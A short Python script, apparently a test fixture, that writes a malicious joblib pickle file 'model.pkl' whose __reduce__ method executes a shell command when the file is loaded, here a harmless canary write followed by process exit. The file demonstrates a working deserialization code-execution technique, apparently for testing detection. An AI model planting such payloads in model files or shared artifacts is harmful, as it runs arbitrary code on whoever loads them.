import joblib


class Payload:
    def __reduce__(self):
        return (exec, ("import os; os.system('echo LOOT > CANARY/joblib'); os._exit(0)",))


def make(folder, course):
    joblib.dump(Payload(), folder / "model.pkl")
    data = (folder / "model.pkl").read_bytes()
    (folder / "model.pkl").write_bytes(data)
